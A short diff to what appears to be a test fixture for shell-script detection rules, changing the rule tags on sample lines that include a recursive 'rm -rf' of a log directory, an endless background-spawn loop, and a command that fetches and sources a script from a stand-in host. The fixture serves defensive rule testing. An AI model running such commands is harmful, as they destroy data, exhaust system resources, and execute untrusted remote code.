@@ -19,7 +19,7 @@ sudo rm -rf /var/log/app
 telnet legacy.example.com 23
 # ruleid: sh.infinite-spawn
 while true; do sleep 1 & done
-# ruleid: sh.exec-remote, sh.network
+# ruleid: sh.exec-remote
 source <(curl -s http://example.com/env)
 
 # --- harmless look-alikes -----------------------------------------------------
